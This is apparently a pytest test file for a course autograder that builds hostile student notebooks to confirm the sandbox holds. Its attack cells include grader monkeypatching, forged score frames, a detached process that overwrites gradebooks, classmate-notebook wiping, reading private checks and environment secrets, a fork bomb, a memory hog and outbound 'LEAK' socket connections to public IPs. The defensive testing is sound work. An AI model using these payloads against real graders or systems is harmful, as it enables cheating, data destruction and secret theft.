"""`coursekit grade` against students who *try* (issue 8): every attack scores what an honest grader gives.

One batch run through the command line (``--jobs 2``, ``--timeout 10``, ``--memory-mb 600``, a private check
folder) grades ten honest students and one student per attack of the issue's list, plus a few of our own.
The submissions are built at test time from solutions/ and exercises/ (chapter 1: mse 1, psnr 2,
quantize 2, sample 3 points); the attack cells below are the hostile part. Each test reads the reports
after the grader has exited; one test reads them again 10 s later, after a process that tried to outlive
grading would have rewritten them.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import socket
import threading
import time
import uuid
from pathlib import Path

import pytest

from conftest import ROOT, load_notebook
from coursekit.__main__ import main
from test_grader import CH01, POINTS, cells, set_exercise, solution

SECRET = "PRIVATE_CHECK_SOURCE_7f3a"          # only in the private check's source
ENV_SECRET = "GRADER_ENVIRONMENT_SECRET_91c2"  # only in the grader's environment
MARK = f"coursekit-escape-{uuid.uuid4().hex[:8]}"
HONEST = [f"honest{i:02d}" for i in range(10)]

PRIVATE_CHECK = f'''
"""Instructor-only check of ch01.mse. {SECRET}"""
from coursekit.grading import Case, Check
from coursekit.metrics import image

def _tiny(rng):
    x = rng.random((3, 3))
    yield Case("tiny 3x3 images", (x, x + 0.5))

CHECKS = [Check("ch01.mse", cases=_tiny, reference=image.mse, atol=1e-12)]
'''


# ----------------------------------------------------------------------------- the attacks

def attacks(paths: dict) -> dict[str, dict[str, str]]:
    """Student name -> {exercise id: the hostile cell}. ``paths`` holds the real paths an attacker might guess."""
    mse_ok, psnr_ok = solution("ch01.mse"), solution("ch01.psnr")
    out, batch_root, private = paths["out"], paths["root"], paths["private"]
    return {
        # patching the check machinery and NumPy's comparisons from the top of an exercise cell
        "patcher": {"ch01.mse": (
            "import numpy as np\nimport coursekit.grading as g\n"
            "g.compare = g.compare_arrays = lambda *a, **k: ''\n"
            "g.judge_answers = lambda *a, **k: ('passed', [], '')\n"
            "g.CaseResult = type('CaseResult', (), {'passed': True, '__init__': lambda self, *a, **k: None})\n"
            "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
            "def mse(reference, test):\n    return 0.0\n")},
        # reading the expected value out of the check's stack frames
        "stack_reader": {"ch01.mse": (
            "import inspect\n"
            "def mse(reference, test):\n"
            "    for info in inspect.stack():\n"
            "        for name, value in info.frame.f_locals.items():\n"
            "            if name in ('expected', 'exp', 'want') and isinstance(value, float):\n"
            "                return value\n"
            "    return -1.0\n")},
        # writing a made-up result into every channel it can find; 400 points in the cell metadata
        "forger": {"ch01.mse": (
            "import json, os, struct\n"
            "def _frame(obj):\n"
            "    body = json.dumps(obj).encode()\n"
            "    inner = struct.pack('<Q', len(body)) + body\n"
            "    return struct.pack('<Q', len(inner)) + inner\n"
            "FORGED = [{'op': 'done', 'status': 'ok', 'points': 400, 'n_blobs': 0},\n"
            "          {'op': 'answers', 'error': None, 'points': 400, 'status': 'passed', 'n_blobs': 0,\n"
            "           'answers': [{'kind': 'returned', 'value': ['float', '400.0']}] * 5}]\n"
            "def mse(reference, test):\n"
            "    for fd in range(64):\n"
            "        for f in FORGED:\n"
            "            try:\n                os.write(fd, _frame(f))\n"
            "            except OSError:\n                pass\n"
            "    print(json.dumps({'status': 'passed', 'points': 400}))\n"
            "    return 0.0\n")},
        # the reference through a wrapper's attributes / a copied code object, and inspect.getsource + exec
        "wrapper": {
            "ch01.mse": (
                "import importlib, types\n"
                "_mod = importlib.import_module('coursekit.metrics.' + 'im' + 'age')\n"
                "_ref = getattr(_mod, 'm' + 'se')\n_ref = getattr(_ref, '__wrapped__', _ref)\n"
                "_copy = types.FunctionType(_ref.__code__, _ref.__globals__)\n"
                "def mse(reference, test):\n    return _copy(reference, test)\n"),
            "ch01.psnr": (
                "import importlib, inspect\n"
                "_mod = importlib.import_module('coursekit.metrics.' + 'im' + 'age')\n"
                "_ns = dict(vars(_mod))\nexec(inspect.getsource(getattr(_mod, 'ps' + 'nr')), _ns)\n"
                "def psnr(reference, test, data_range):\n    return _ns['ps' + 'nr'](reference, test, data_range)\n")},
        # the master notebook (or a classmate's) on disk
        "master_reader": {"ch01.quantize": (
            "import glob, json, os\nimport numpy as np\n"
            f"_CANDIDATES = [{str(ROOT / 'solutions' / CH01)!r}] + glob.glob('/work/*/solutions/*.ipynb')\n"
            f"_CANDIDATES += glob.glob({str(batch_root)!r} + '/*/*.ipynb') + glob.glob('/root/**/*.ipynb', recursive=True)\n"
            "_CODE = None\n"
            "for _p in _CANDIDATES:\n"
            "    try:\n"
            "        _nb = json.load(open(_p))\n"
            "        _CODE = next(''.join(c['source']) for c in _nb['cells']\n"
            "                     if c['metadata'].get('exercise', {}).get('id') == 'ch01.quantize'\n"
            "                     and 'exercise' in c['metadata'].get('tags', []))\n"
            "        break\n"
            "    except Exception:\n        pass\n"
            "if _CODE:\n    exec(_CODE)\n"
            "else:\n"
            "    def quantize(image, levels):\n"
            "        return np.zeros_like(image)\n")},
        # a process in a new session that outlives grading and rewrites the reports
        "lingerer": {"ch01.mse": (
            "import os, time\n"
            f"_TARGETS = [{str(out / 'gradebook.csv')!r}, {str(out / 'lingerer' / 'score.json')!r},\n"
            f"            {str(out / HONEST[0] / 'score.json')!r}]\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for _ in range(600):\n"
            "            for _t in _TARGETS:\n"
            "                try:\n"
            "                    os.makedirs(os.path.dirname(_t), exist_ok=True)\n"
            "                    open(_t, 'w').write('HACKED 400/8')\n"
            "                except OSError:\n                    pass\n"
            "            time.sleep(0.05)\n"
            "    os._exit(0)\n" + mse_ok)},
        # emptying, editing and reading classmates' notebooks
        "vandal": {"ch01.mse": (
            "import glob\n"
            f"_MINE = glob.glob({str(batch_root)!r} + '/**/*.ipynb', recursive=True) + glob.glob('/tmp/**/*.ipynb', recursive=True)\n"
            "_STOLEN = None\n"
            "for _p in _MINE:\n"
            "    try:\n        _STOLEN = open(_p).read()\n    except OSError:\n        pass\n"
            "    try:\n        open(_p, 'w').write('')\n    except OSError:\n        pass\n"
            "def mse(reference, test):\n    return 0.0 if _STOLEN is None else -1.0\n")},
        # the private checks' source and the grader's environment, raised into one's own report
        "snoop": {
            "ch01.mse": (
                "import glob\n"
                "def mse(reference, test):\n"
                "    text = []\n"
                f"    for p in [{str(private / 'ch01_private.py')!r}] + glob.glob('/*/*/ch01_private.py') + glob.glob('/tmp/**/*.py', recursive=True):\n"
                "        try:\n            text.append(open(p).read())\n"
                "        except OSError as e:\n            text.append(type(e).__name__)\n"
                "    raise ValueError(' | '.join(text) or 'nothing found')\n"),
            "ch01.psnr": (
                "import os\n"
                "def psnr(reference, test, data_range):\n"
                "    raise ValueError(os.environ.get('COURSEKIT_TEST_ENV_SECRET', 'no-secret') + ' ' + ' '.join(sorted(os.environ)))\n")},
        # a slow class body in exercise 1; exercise 2 uses exercise 1's function
        "slowclass": {
            "ch01.mse": "import time\n\nclass Slow:\n    time.sleep(120)\n\n" + mse_ok,
            "ch01.psnr": ("def psnr(reference, test, data_range):\n"
                          "    m = mse(reference, test)\n"
                          "    return float('inf') if m == 0 else float(10 * np.log10(data_range ** 2 / m))\n")},
        # a fork bomb
        "forkbomb": {"ch01.sample": (
            "import os\n"
            "def sample(image, factor, prefilter=False):\n"
            "    while True:\n"
            "        try:\n            os.fork()\n        except OSError:\n            pass\n")},
        # children multiplying the memory limit
        "memhog": {"ch01.psnr": (
            "import os, time\nimport numpy as np\n"
            "def psnr(reference, test, data_range):\n"
            "    for _ in range(6):\n"
            "        if os.fork() == 0:\n"
            "            a = np.ones(400 * 2**20 // 8)\n            time.sleep(60)\n            os._exit(0)\n"
            "    a = np.ones(400 * 2**20 // 8)\n    time.sleep(60)\n")},
        # files left outside the working folder
        "escaper": {"ch01.quantize": (
            "import os\n"
            f"for _d in ['/tmp', '/work', {str(ROOT)!r}, {str(batch_root)!r}, {str(out)!r}, '/root', '/', '/usr',\n"
            "           '/opt/coursekit-runner', os.path.expanduser('~'), os.getcwd() + '/..', '/dev/shm', '/var/tmp']:\n"
            "    try:\n"
            f"        open(os.path.join(_d, {MARK!r}), 'w').write('x')\n"
            "    except OSError:\n        pass\n" + solution("ch01.quantize"))},
        # the third-party function that does the exercise's work: flagged for a human, not zeroed
        "forbidden": {"ch01.mse": (
            "from skimage.metrics import mean_squared_error as _mse\n"
            "def mse(reference, test):\n"
            "    return float(_mse(reference.astype(np.float64), test.astype(np.float64)))\n")},
        # a network connection: to a server of the test on the loopback, and out to the internet
        "netcat": {"ch01.mse": (
            "import socket\n"
            "def mse(reference, test):\n"
            f"    for host, port in [('127.0.0.1', {paths['port']}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
            "        try:\n"
            "            s = socket.create_connection((host, port), timeout=1)\n"
            "            s.sendall(b'LEAK')\n"
            "            return -1.0\n"
            "        except OSError:\n            pass\n"
            "    diff = reference.astype(np.float64) - test.astype(np.float64)\n"
            "    return float(np.mean(diff ** 2))\n")},
    }


DILIGENT = {
    "ch01.quantize": (
        "def quantize(image, levels):\n"
        "    spacing = 255.0 / (levels - 1)\n"
        "    values = image.astype(np.float64)\n"
        "    nearest = np.floor(values / spacing + 0.5)\n"
        "    nearest = np.clip(nearest, 0, levels - 1)\n"
        "    result = np.round(nearest * spacing)\n"
        "    return result.astype(np.uint8)\n"),
    "ch01.sample": (
        "def sample(image, factor, prefilter=False):\n"
        "    rows = (image.shape[0] // factor) * factor\n"
        "    cols = (image.shape[1] // factor) * factor\n"
        "    cropped = np.asarray(image[:rows, :cols], dtype=np.float64)\n"
        "    if prefilter:\n"
        "        acc = np.zeros((rows // factor, cols // factor) + image.shape[2:])\n"
        "        for di in range(factor):\n"
        "            for dj in range(factor):\n"
        "                acc += cropped[di::factor, dj::factor]\n"
        "        return acc / (factor * factor)\n"
        "    out = cropped[0::factor, 0::factor]\n"
        "    return out.copy()\n"),
}
# the same code copied by hand, with other names and comments
COPYCAT = {eid: src.replace("spacing", "gap").replace("values", "pixels").replace("nearest", "idx")
           .replace("rows", "height").replace("cols", "width").replace("cropped", "img").replace("acc", "total")
           .replace("def quantize", "# my own quantiser\ndef quantize") for eid, src in DILIGENT.items()}

EXPECTED = {   # points per exercise that an honest grader gives each attack
    "patcher": dict(POINTS, **{"ch01.mse": 0}),
    "stack_reader": dict(POINTS, **{"ch01.mse": 0}),
    "forger": dict(POINTS, **{"ch01.mse": 0}),
    "wrapper": dict(POINTS, **{"ch01.mse": 0, "ch01.psnr": 0}),
    "master_reader": dict(POINTS, **{"ch01.quantize": 0}),
    "lingerer": POINTS,
    "vandal": dict(POINTS, **{"ch01.mse": 0}),
    "snoop": dict(POINTS, **{"ch01.mse": 0, "ch01.psnr": 0}),
    "slowclass": dict(POINTS, **{"ch01.mse": 0}),
    "forkbomb": dict(POINTS, **{"ch01.sample": 0}),
    "memhog": dict(POINTS, **{"ch01.psnr": 0}),
    "escaper": POINTS,
    "forbidden": POINTS,
    "ref_copier": POINTS,
    "netcat": POINTS,
    "diligent": POINTS,
    "copycat": POINTS,
    "two_copies": POINTS,
    "twin_a": dict(POINTS, **{"ch01.psnr": 0, "ch01.sample": 0}),
    "twin_b": dict(POINTS, **{"ch01.psnr": 0, "ch01.sample": 0}),
}
MALFORMED = {   # student -> words of the one line that explains why nothing was graded
    "link_master": "symbolic link", "link_classmate": "symbolic link", "dev_zero": "symbolic link",
    "fifo": "FIFO", "int_in_source": "should be a string or a list of strings", "deep_json": "levels deep",
    "huge_cell": "MB of code", "huge_file": "MB; the grader reads notebooks up to", "zero": "device",
}


# ----------------------------------------------------------------------------- building the batch

def _full() -> dict:
    return load_notebook(ROOT / "solutions" / CH01)


def _with(sources: dict[str, str], base: dict | None = None) -> dict:
    nb = copy.deepcopy(base or _full())
    for eid, src in sources.items():
        set_exercise(nb, eid, src)
    return nb


def _write(path: Path, nb) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb, indent=1), encoding="utf-8")
    return path


def _reference_copy() -> str:
    """coursekit's own quantize, pasted by hand (its validation helpers swapped for plain code)."""
    import inspect

    from coursekit.image import sampling

    src = inspect.getsource(sampling.quantize)
    keep = [line for line in src.splitlines() if "_as_image(" not in line]
    return "\n".join(keep).replace('levels = check_int(levels, "levels", 2, 256)', "levels = int(levels)") + "\n"


def build_batch(root: Path, paths: dict) -> list[Path]:
    """The students' folders (and one loose argument); returns the command-line arguments."""
    args = []
    _write(root / "ref_copier" / CH01, _with({"ch01.quantize": _reference_copy()}))
    for i, name in enumerate(HONEST):                # honest: the solution, in each student's own words
        nb = _full()
        for eid in POINTS:
            cell = cells(nb, eid, "exercise")[0]
            cell["source"] = "".join(cell["source"]) + f"\n# checked by {name}, attempt {i}\n"
        _write(root / name / CH01, nb)
    for name, sources in attacks(paths).items():
        nb = _with(sources)
        if name == "forger":
            cells(nb, "ch01.mse", "exercise")[0]["metadata"]["exercise"]["points"] = 400
        _write(root / name / CH01, nb)
    _write(root / "diligent" / CH01, _with(DILIGENT))
    _write(root / "copycat" / CH01, _with(COPYCAT))
    _write(root / "two_copies" / CH01, _full())           # the chapter twice: one grade
    _write(root / "two_copies" / "old" / "01_foundations (copy).ipynb", load_notebook(ROOT / "exercises" / CH01))
    partial = _with({"ch01.psnr": "def psnr(reference, test, data_range):\n    return 0.0\n",
                     "ch01.sample": "def sample(image, factor, prefilter=False):\n    return image\n"})
    _write(root / "twin_a" / CH01, partial)
    (root / "twin_b").mkdir()
    (root / "twin_b" / CH01).write_bytes((root / "twin_a" / CH01).read_bytes())
    # hostile files
    (root / "link_master").mkdir()
    (root / "link_master" / CH01).symlink_to(ROOT / "solutions" / CH01)
    (root / "link_classmate").mkdir()
    (root / "link_classmate" / CH01).symlink_to(root / HONEST[1] / CH01)
    (root / "dev_zero").mkdir()
    (root / "dev_zero" / CH01).symlink_to("/dev/zero")
    (root / "fifo").mkdir()
    os.mkfifo(root / "fifo" / CH01)
    nb = _full()
    nb["cells"][3]["source"] = ["x = 1\n", 5, "y = 2\n"]
    _write(root / "int_in_source" / CH01, nb)
    (root / "deep_json").mkdir()
    (root / "deep_json" / CH01).write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + ', "nbformat": 4}')
    _write(root / "huge_cell" / CH01, _with({"ch01.mse": solution("ch01.mse") + "#" * (3 * 2**20) + "\n"}))
    nb = _full()
    nb["cells"].append({"cell_type": "markdown", "id": "big", "metadata": {}, "source": "x" * (11 * 2**20)})
    _write(root / "huge_file" / CH01, nb)
    args += sorted(root.iterdir())
    args.append(Path("/dev/zero"))                    # a device given as a notebook
    return args


def _checksums(root: Path) -> dict[str, str]:
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_symlink():
            out[str(p)] = "link -> " + os.readlink(p)
        elif p.is_file():
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _sandbox_processes() -> list[int]:
    from coursekit.grader.sandbox import _UID_BASE

    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if entry.stat().st_uid >= _UID_BASE:
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    root, out, private = base / "submissions", base / "grades", base / "private"
    for d in (root, private):
        d.mkdir()
    (private / "ch01_private.py").write_text(PRIVATE_CHECK)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(100) or b"(connected)")
                conn.close()
            except OSError:
                pass

    server = threading.Thread(target=accept, daemon=True)
    server.start()
    paths = {"root": root, "out": out, "private": private, "port": listener.getsockname()[1]}
    args = build_batch(root, paths)
    before = _checksums(root)
    solo_out = base / "solo"
    os.environ["COURSEKIT_TEST_ENV_SECRET"] = ENV_SECRET
    try:
        solo_code = main(["grade", str(root / HONEST[0] / CH01), "--out", str(solo_out), "--timeout", "10",
                          "--memory-mb", "600", "--checks", str(private), "--master", str(ROOT / "solutions")])
        code = main(["grade", *map(str, args), "--out", str(out), "--jobs", "2", "--timeout", "10",
                     "--memory-mb", "600", "--checks", str(private), "--master", str(ROOT / "solutions")])
    finally:
        os.environ.pop("COURSEKIT_TEST_ENV_SECRET", None)
    leftovers = _sandbox_processes()
    stop.set()
    server.join()
    listener.close()
    texts = {p: p.read_text(errors="replace") for p in out.rglob("*") if p.is_file()}
    scores = {p.name: json.loads((p / "score.json").read_text()) for p in out.iterdir() if p.is_dir()}
    return {"code": code, "solo_code": solo_code, "root": root, "out": out, "before": before, "scores": scores,
            "solo": json.loads((solo_out / "score.json").read_text()), "texts": texts, "received": received,
            "leftovers": leftovers}


def _graded_nb(score) -> dict:
    (nb,) = [nb for nb in score["notebooks"] if nb["status"] == "graded"]
    return nb


def _ex(score) -> dict[str, dict]:
    return {e["id"]: e for e in _graded_nb(score)["exercises"]}


def _points(score) -> dict[str, float]:
    return {eid: e["points"] for eid, e in _ex(score).items()}


# ----------------------------------------------------------------------------- the batch as a whole

def test_the_batch_writes_a_report_for_every_student(graded):
    assert graded["code"] == 0 and graded["solo_code"] == 0
    names = set(HONEST) | set(EXPECTED) | set(MALFORMED)
    assert names <= set(graded["scores"])


@pytest.mark.parametrize("name", HONEST)
def test_honest_students_get_exactly_their_solo_score(graded, name):
    def strip(score):
        return [{k: e[k] for k in ("id", "points", "status", "cases", "message")} for e in _graded_nb(score)["exercises"]]
    assert strip(graded["scores"][name]) == strip(graded["solo"])
    assert graded["scores"][name]["points"] == 8


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_attack_scores_what_an_honest_grader_gives(graded, name):
    assert _points(graded["scores"][name]) == EXPECTED[name]


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_a_hostile_file_costs_only_itself_with_one_clear_line(graded, name):
    score = graded["scores"][name]
    assert score["points"] == 0 and score["max_points"] == 0
    (problem,) = score["problems"]
    assert MALFORMED[name] in problem and "\n" not in problem and "Traceback" not in problem


def test_no_submission_changed(graded):
    assert _checksums(graded["root"]) == graded["before"]


def test_no_gradebook_row_or_exercise_exceeds_its_maximum(graded):
    with open(graded["out"] / "gradebook.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows
    for row in rows:
        assert float(row["points"]) <= float(row["max_points"])
        for eid, top in POINTS.items():
            assert row[eid] == "" or float(row[eid]) <= top
    for score in graded["scores"].values():
        for nb in score["notebooks"]:
            assert all(e["points"] <= e["max_points"] for e in nb["exercises"])


def test_reports_hold_after_exit_and_ten_seconds_later(graded):
    def snapshot():
        return {p: p.read_bytes() for p in graded["out"].rglob("*") if p.is_file()}
    first = snapshot()
    assert not any(b"HACKED" in data for data in first.values())
    assert graded["leftovers"] == []                 # no process of any sandbox is left
    time.sleep(10)
    assert snapshot() == first


# ----------------------------------------------------------------------------- one attack at a time

def test_patching_the_check_machinery_changes_nothing_outside(graded):
    assert _ex(graded["scores"]["patcher"])["ch01.mse"]["status"] == "failed"


def test_the_stack_holds_no_expected_value(graded):
    mse = _ex(graded["scores"]["stack_reader"])["ch01.mse"]
    assert mse["status"] == "failed" and all(not c["passed"] for c in mse["cases"])


def test_forged_reports_and_metadata_points_count_for_nothing(graded):
    score = graded["scores"]["forger"]
    mse = _ex(score)["ch01.mse"]
    assert mse["points"] == 0 and mse["max_points"] == 1 and score["points"] == 7
    assert any("points in the cell metadata were changed" in f for f in mse["flags"])


def test_reaching_the_reference_by_any_route_finds_it_removed(graded):
    ex = _ex(graded["scores"]["wrapper"])
    for eid in ("ch01.mse", "ch01.psnr"):
        assert ex[eid]["status"] == "reference-used"
        assert "used the reference implementation (your function called it while being checked)." in ex[eid]["flags"]


def test_the_master_and_classmates_are_not_on_the_sandboxs_disk(graded):
    assert _ex(graded["scores"]["master_reader"])["ch01.quantize"]["status"] == "failed"
    assert _ex(graded["scores"]["vandal"])["ch01.mse"]["status"] == "failed"     # found nothing to steal


def test_private_checks_and_the_graders_environment_stay_out_of_reach(graded):
    ex = _ex(graded["scores"]["snoop"])
    assert "FileNotFoundError" in ex["ch01.mse"]["cases"][0]["hint"]
    assert "no-secret" in ex["ch01.psnr"]["cases"][0]["hint"]
    assert not any(SECRET in t or ENV_SECRET in t or "def _tiny" in t for t in graded["texts"].values())
    labels = [c["label"] for c in _ex(graded["scores"][HONEST[0]])["ch01.mse"]["cases"]]
    assert "additional check: tiny 3x3 images" in labels                       # the private check did run


def test_a_slow_class_body_costs_only_its_own_exercise(graded):
    ex = _ex(graded["scores"]["slowclass"])
    assert ex["ch01.mse"]["status"] == "timeout"
    assert ex["ch01.psnr"]["status"] == "passed"                               # uses mse, not the slow class


def test_a_fork_bomb_costs_only_its_exercise(graded):
    ex = _ex(graded["scores"]["forkbomb"])
    assert ex["ch01.sample"]["status"] in ("timeout", "crashed")


def test_children_cannot_multiply_the_memory_limit(graded):
    psnr = _ex(graded["scores"]["memhog"])["ch01.psnr"]
    assert psnr["status"] == "crashed" and "memory limit" in psnr["message"]


def test_nothing_is_written_outside_the_sandboxs_scratch_folder(graded, tmp_path):
    places = [Path("/tmp"), Path("/work"), ROOT, graded["root"], graded["out"], Path("/root"), Path("/var/tmp")]
    assert not any((p / MARK).exists() for p in places)
    assert _ex(graded["scores"]["escaper"])["ch01.quantize"]["status"] == "passed"


def test_no_network_not_even_the_loopback(graded):
    assert graded["received"] == []
    assert _ex(graded["scores"]["netcat"])["ch01.mse"]["status"] == "passed"   # every connection failed


def test_a_copy_of_the_reference_source_is_flagged_not_zeroed(graded):
    quantize = _ex(graded["scores"]["ref_copier"])["ch01.quantize"]
    assert quantize["points"] == 2 and any("similar to the coursekit reference" in f for f in quantize["flags"])


def test_a_forbidden_third_party_call_is_flagged_not_zeroed(graded):
    mse = _ex(graded["scores"]["forbidden"])["ch01.mse"]
    assert mse["points"] == 1 and any("calls skimage.metrics.mean_squared_error" in f for f in mse["flags"])


def test_copying_a_classmate_by_hand_is_flagged_not_zeroed(graded):
    for who, other in (("copycat", "diligent"), ("diligent", "copycat")):
        ex = _ex(graded["scores"][who])
        for eid in DILIGENT:
            assert any(f.startswith("similar to") and f"{other} (" in f for f in ex[eid]["flags"]), (who, eid, ex[eid]["flags"])
            assert ex[eid]["points"] == POINTS[eid]
        assert not any("honest" in f for eid in DILIGENT for f in ex[eid]["flags"])
    with open(graded["out"] / "gradebook.csv", newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert "diligent (" in rows["copycat"]["flags"]


def test_identical_files_are_flagged_and_two_copies_get_one_grade(graded):
    for me, other in (("twin_a", "twin_b"), ("twin_b", "twin_a")):
        assert any(f"identical file submitted by: {other}" in f for f in _graded_nb(graded["scores"][me])["flags"])
    two = graded["scores"]["two_copies"]
    assert two["points"] == 8 and two["max_points"] == 8
    (other,) = [nb for nb in two["notebooks"] if nb["status"] == "not-graded"]
    assert "another copy of chapter 01" in other["problem"]
